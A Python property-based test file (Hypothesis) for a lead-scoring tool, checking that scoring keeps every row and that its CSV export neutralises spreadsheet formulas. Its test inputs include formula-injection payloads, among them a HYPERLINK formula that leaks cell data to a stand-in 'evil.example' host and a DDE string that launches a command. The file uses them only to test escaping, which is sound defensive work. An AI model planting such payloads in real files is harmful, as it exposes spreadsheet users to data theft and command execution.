"""Properties of cleaning and scoring on random tables (Hypothesis), and of the file written.

A model trained on the first 1,500 sample leads scores random tables: its own columns filled
with random cells (text of every kind, formula starts, control characters, numbers written as
text, blanks, real numbers, dates), and extra columns whose names start like formulas or hold
control characters. Whatever the cells:

- every row comes back, in order, with its index and every cell of the user's columns as given;
- every lead gets a probability between 0 and 1, a score from 0 to 100 and a tier;
- the only refusal is a LeadScoreInputError, and only when a column the model needs is missing;
- the CSV LeadScore writes (:func:`leadscore.score.export.scored_csv`) has no cell a spreadsheet would
  run: a risky cell or column name is written with one apostrophe in front, any other text
  exactly as given.

Kept fast: small tables, a bounded number of examples, the same examples every run.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from leadscore.errors import LeadScoreInputError
from leadscore.score.export import excel_safe, is_formula, scored_csv
from leadscore.score.scoring import SCORE_COLUMNS, score_leads
from leadscore.model.tiers import TIERS

REPO = Path(__file__).resolve().parents[1]

PROPERTY = settings(
    max_examples=60,
    deadline=None,  # the machine is shared; speed is measured in benchmarks/, not here
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.fixture(scope="module")
def bundle(tmp_path_factory):
    """A logistic model of the first 1,500 sample leads (numbers, yes/no, categories, dates, text)."""
    from leadscore.clean.plan import CleaningChoices
    from leadscore.project.workflow import LeadProject
    from leadscore.io.read import read_leads
    from leadscore.model.train import TrainingSettings

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LEADSCORE_HOME", str(tmp_path_factory.mktemp("home")))
        lines = (REPO / "sample_data" / "leads.csv").read_bytes().splitlines(keepends=True)
        project = LeadProject.new(read_leads(b"".join(lines[:1501]), filename="history.csv"), "history")
        project.data.set_outcome(project.data.outcome_suggestion().mapping)
        project.data.set_choices(CleaningChoices())
        project.training.train(TrainingSettings(model="logistic"))
        model = project.models.bundle()
    kinds = {column["kind"] for column in model.schema}
    assert {"number", "boolean", "category", "date", "text"} <= kinds  # every kind of column is exercised
    return model


# --------------------------------------------------------------------------------------------
# Random cells and names

_CHARACTERS = st.characters(blacklist_categories=("Cs",), max_codepoint=0x1F9FF)
FORMULA_STARTS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1)", "+1+1", "-1+1", "=cmd|' /C calc'!A0",
                  "\t=1", "\r=1", "\n=1", " =1", "\uff1d1+1", "\x00=1", "\x01@x"]
NUMBERS_AS_TEXT = ["1,200", "$3,500", "45%", "(300)", "-12.5", "+12.5", "1e309", "inf", "NaN", "0", "7", "3.9",
                   "+61 98 361 5373", "1.234,50 €", "--", "-"]
BLANKS = ["", " ", "\t", "NA", "null", "n/a"]
DATES = ["2025-11-01 02:41", "2025-11-01", "01/11/2025", "April 21, 2024", "45251", "soon", "2025-13-45"]
YES_NO = ["yes", "no", "Yes", "TRUE", "false", "1", "0", "maybe"]


def _text_cells() -> st.SearchStrategy:
    return st.one_of(
        st.text(_CHARACTERS, max_size=15),
        st.sampled_from(FORMULA_STARTS + NUMBERS_AS_TEXT + BLANKS + DATES + YES_NO),
    )


def _cells() -> st.SearchStrategy:
    return st.one_of(
        _text_cells(),
        st.none(),
        st.floats(allow_nan=True, allow_infinity=True),
        st.integers(-10**12, 10**12),
        st.booleans(),
    )


_NAMES = st.one_of(
    st.text(_CHARACTERS, min_size=1, max_size=12),
    st.sampled_from(["=SUM(A1:A9)", "+1", "-x", "@score", '=HYPERLINK("http://x")', "\tname", "a\x01b", "\x00", " "]),
)


@st.composite
def lead_tables(draw, schema):
    """A random table of new leads with the model's columns (a few may be missing) and extras."""
    rows = draw(st.integers(1, 6))
    columns = [column["name"] for column in schema]
    dropped = draw(st.sets(st.sampled_from(columns), max_size=2)) if draw(st.booleans()) else set()
    extras = draw(st.lists(_NAMES, max_size=4, unique=True))
    names = [name for name in columns if name not in dropped]
    names += [name for name in extras if name not in names and name not in SCORE_COLUMNS]
    order = draw(st.permutations(names))
    table = {}
    for name in order:
        # A column of text (as read from a file), or of any mixture of values.
        cells = _text_cells() if draw(st.booleans()) else _cells()
        table[name] = pd.Series(draw(st.lists(cells, min_size=rows, max_size=rows)), dtype=object)
    index = draw(st.lists(st.integers(0, 10**6), min_size=rows, max_size=rows, unique=True))
    frame = pd.DataFrame(table, columns=order)
    frame.index = pd.Index(index)
    return frame, dropped


def _same_cells(got: pd.Series, given_: pd.Series) -> bool:
    for a, b in zip(got.tolist(), given_.tolist()):
        if a is b:
            continue
        if isinstance(a, float) and isinstance(b, float) and math.isnan(a) and math.isnan(b):
            continue
        if type(a) is not type(b) or a != b:
            return False
    return True


def _written(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # Excel reads the accents right
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _as_written(value: str) -> str:
    return "'" + value if is_formula(value) else value


# --------------------------------------------------------------------------------------------
# Properties


@PROPERTY
@given(data=st.data())
def test_random_leads_keep_every_row_and_cell_and_get_a_score_or_a_clear_refusal(bundle, data):
    leads, dropped = data.draw(lead_tables(bundle.schema))
    given_copy = leads.copy()
    required = {column["name"] for column in bundle.schema if column.get("required")}
    try:
        result = score_leads(bundle, leads)
    except LeadScoreInputError as refusal:
        assert dropped & required, f"refused although every needed column is there: {refusal.message}"
        assert all(f"'{name}'" in refusal.message for name in dropped & required)
        return
    assert not dropped & required, "scored although a needed column is missing"
    scored = result.scored
    pd.testing.assert_frame_equal(leads, given_copy)  # the user's table is not changed
    assert list(scored.index) == list(leads.index)  # every row, in order
    # A table without an ID column gets each lead's row in the file, last (1 = the first lead).
    numbered = ["row"] if not any(str(c).strip().lower() == "row" for c in leads.columns) else []
    assert list(scored.columns) == [*leads.columns, *SCORE_COLUMNS, *numbered]
    if numbered:
        assert scored["row"].tolist() == [label + 1 for label in leads.index]
    for position, name in enumerate(leads.columns):
        assert _same_cells(scored.iloc[:, position], leads.iloc[:, position]), name
    probability = scored["conversion_probability"].to_numpy(dtype=float)
    assert np.isfinite(probability).all() and ((probability >= 0) & (probability <= 1)).all()
    assert scored["lead_score"].between(0, 100).all()
    assert scored["tier"].isin(TIERS).all()
    assert all(isinstance(text, str) for column in ("reason_1", "reason_2", "reason_3") for text in scored[column])

    # The file a marketer opens: one header and one line per lead, nothing a spreadsheet runs.
    written = _written(scored_csv(scored))
    header, lines = written[0], written[1:]
    assert header == [_as_written(str(name)) for name in scored.columns]
    assert len(lines) == len(scored)
    for line, (_, row) in zip(lines, scored.iterrows()):
        assert len(line) == scored.shape[1]
        for cell, value in zip(line, row.tolist()):
            assert not is_formula(cell), repr(cell)
            if isinstance(value, str):
                assert cell == _as_written(value), (cell, value)


@PROPERTY
@given(data=st.data())
def test_excel_safe_escapes_every_risky_cell_once_and_changes_nothing_else(data):
    rows = data.draw(st.integers(0, 6))
    names = data.draw(st.lists(_NAMES, min_size=1, max_size=5, unique=True))
    table = pd.DataFrame(
        {name: pd.Series(data.draw(st.lists(_cells(), min_size=rows, max_size=rows)), dtype=object) for name in names},
        columns=names,
    )
    safe = excel_safe(table)
    assert safe.shape == table.shape and list(safe.index) == list(table.index)
    assert list(safe.columns) == [_as_written(str(name)) for name in names]
    for position in range(table.shape[1]):
        for before, after in zip(table.iloc[:, position].tolist(), safe.iloc[:, position].tolist()):
            if isinstance(before, str):
                assert after == _as_written(before)
                assert not is_formula(after)
            else:
                assert after is before or (before != before and after != after)  # numbers, None, NaN as they were
